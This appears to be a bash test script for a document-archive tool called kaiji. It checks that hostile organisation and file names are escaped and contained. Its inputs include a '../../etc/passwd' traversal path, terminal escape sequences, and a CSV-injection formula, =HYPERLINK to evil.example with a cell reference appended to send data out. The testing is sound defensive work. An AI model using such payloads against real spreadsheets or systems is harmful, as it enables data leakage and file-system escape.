#!/usr/bin/env bash
# Organisation names with `/`, `..`, quotes and control characters, in the
# overview and in file names: records keep the names (JSON-escaped, control
# characters dropped), warnings print them harmlessly, and every file name
# kaiji derives from them stays inside its output folder (kj_safe_filename,
# tests/unit/test_filename.c; the one-pager and attachment writers use it).
. "$(dirname "$0")/lib.sh"

printf '# 公表概要\n- 題\n- 2026年1月15日\n- ../../etc/passwd、A/B株式会社、"引用"株式会社、株式会社\033[31m赤\033[0m、株式会社\007ベル\n\n# 本文\n本文。\n' \
  >"$MONTH/15_株式会社なまえ.md"
# File names holding quotes, `..`, an escape sequence and a newline.
printf '# 公表概要\n- 題\n- 2026年1月16日\n' >"$MONTH/16_\"引用\"株式会社.md"
printf '# 公表概要\n- 題\n- 2026年1月17日\n' >"$MONTH/17_..株式会社.md"
printf '本文のみ\n' >"$MONTH/$(printf '18_株式会社\033[2J消去')".md
printf '本文のみ\n' >"$MONTH/$(printf '19_株式会社\n改行')".md

within 20 0 "export reads hostile names" "$KAIJI" export "$ARCHIVE"
python3 - "$TMP/stdout" <<'PY' && pass "records keep the names, without control characters" || fail "names in records"
import json, sys
recs = {r["path"]: r for r in map(json.loads, open(sys.argv[1], encoding="utf-8"))}
r = recs["2026/01/15_株式会社なまえ.md"]
assert r["organizations"] == ["../../etc/passwd", "A/B株式会社", '"引用"株式会社', "株式会社[31m赤[0m",
                              "株式会社ベル"], r["organizations"]
assert recs['2026/01/16_"引用"株式会社.md']["organizations"] == ['"引用"株式会社']
assert recs["2026/01/17_..株式会社.md"]["organizations"] == ["..株式会社"]
assert recs["2026/01/18_株式会社\x1b[2J消去.md"]["organizations"] == ["株式会社[2J消去"]
assert recs["2026/01/19_株式会社\n改行.md"]["organizations"] == ["株式会社改行"]
for r in recs.values():
    for name in r["organizations"]:
        assert not any(ord(c) < 0x20 or ord(c) == 0x7f for c in name), name
PY
# Warnings name such files without passing their control characters to the
# terminal (an escape sequence in a file name must not clear the screen).
within 20 65 "check lists the files without overview data" "$KAIJI" check "$ARCHIVE"
check "the escape in a file name is shown escaped, not sent to the terminal" \
  bash -c "! grep -q \$'\\033' '$TMP/stdout' '$TMP/stderr' && grep -qF '18_株式会社\\x1B[2J消去.md' '$TMP/stdout'"
check "the newline in a file name is shown escaped" grep -qF '19_株式会社\n改行.md' "$TMP/stdout"
check "one line per file with problems" [ "$(grep -c '^' "$TMP/stdout")" -eq 5 ]

# CSV keeps quotes and commas inside their fields.
within 20 0 "csv export of hostile names" "$KAIJI" export --format csv "$ARCHIVE"
python3 - "$TMP/stdout" <<'PY' && pass "csv rows parse with the names intact" || fail "csv quoting"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
orgs = {r[0]: r[2] for r in rows[1:]}
assert orgs["2026/01/15_株式会社なまえ.md"].split(";")[2] == '"引用"株式会社', orgs
assert all(len(r) == len(rows[0]) for r in rows)
PY

# Titles and organisations a spreadsheet would run as formulas (OWASP "CSV
# injection"): CSV for Excel, from `export --excel` and `stats --excel`,
# starts each such field with a single quote inside the quotes; plain CSV,
# for programs, keeps the text as written.
mkdir -p "$TMP/formulas/2026/01"
printf '# 公表概要\n- =HYPERLINK("https://evil.example/?"&A1,"詳細")\n- 2026年1月20日\n- @SUM(1+1)株式会社\n\n# 本文\n本文。\n' \
  >"$TMP/formulas/2026/01/20_株式会社いち.md"
printf '# 公表概要\n- +1+2 について\n- 2026年1月21日\n- -2+3株式会社\n\n# 本文\n本文。\n' \
  >"$TMP/formulas/2026/01/21_株式会社に.md"
within 20 0 "csv --excel of formula-like titles and names" \
  "$KAIJI" export --format csv --excel "$TMP/formulas"
python3 - "$TMP/stdout" <<'PY' && pass "--excel: formula-like fields start with a quote" || fail "--excel formulas"
import csv, sys
text = open(sys.argv[1], encoding="utf-8-sig", newline="").read()
rows = list(csv.reader(text.splitlines(keepends=True)))
head = rows[0]
got = {r[0]: dict(zip(head, r)) for r in rows[1:]}
one, two = got["2026/01/20_株式会社いち.md"], got["2026/01/21_株式会社に.md"]
assert one["title"] == """'=HYPERLINK("https://evil.example/?"&A1,"詳細")""", one["title"]
assert one["organizations"] == "'@SUM(1+1)株式会社", one["organizations"]
assert two["title"] == "'+1+2 について", two["title"]
assert two["organizations"] == "'-2+3株式会社", two["organizations"]
# inside the quotes, as OWASP recommends
assert "\"'=HYPERLINK(" in text and "\"'@SUM(" in text, text
for r in rows[1:]:
    for field in r:
        assert not field or field[0] not in "=+-@\t\r", (field, r)
PY
within 20 0 "plain csv of the same" "$KAIJI" export --format csv "$TMP/formulas"
check "plain CSV keeps the title as written" \
  grep -qF '"=HYPERLINK(""https://evil.example/?""&A1,""詳細"")"' "$TMP/stdout"
within 20 0 "stats csv --excel by organisation" \
  "$KAIJI" stats --format csv --excel --by organization "$TMP/formulas"
python3 - "$TMP/stdout" <<'PY' && pass "stats --excel: formula-like labels start with a quote" || fail "stats --excel formulas"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
orgs = [r for r in rows if r[0] == "organization"]
assert orgs, rows
assert any(r[2] == "'@SUM(1+1)株式会社" for r in orgs), orgs
for r in rows:
    for field in r:
        assert not field or field[0] not in "=+-@\t\r", (field, r)
PY

# One-pagers are named after incident ids made from these names: every file
# lands inside the -o folder, with no path separator or control character.
mkdir -p "$TMP/pages" "$TMP/elsewhere"
touch "$TMP/before"
within 60 0 "one-pagers of releases with hostile names" \
  "$KAIJI" onepager --all --month 2026-01 -o "$TMP/pages" "$ARCHIVE"
check "one-pagers were written" [ "$(find "$TMP/pages" -name 'onepager-*.pdf' | wc -l)" -ge 4 ]
check "every one-pager is a plain file directly inside the output folder" \
  bash -c "[ -z \"\$(find '$TMP/pages' -mindepth 1 ! -path '$TMP/pages/onepager-*.pdf' -print -quit)\" ]"
check "nothing was written outside the output folder" \
  bash -c "[ -z \"\$(find '$TMP' -newer '$TMP/before' -type f ! -path '$TMP/pages/*' ! -name stdout ! -name stderr -print -quit)\" ]"
check "no control character in a one-pager's name" \
  bash -c "! ls '$TMP/pages' | LC_ALL=C grep -q '[[:cntrl:]]'"
finish
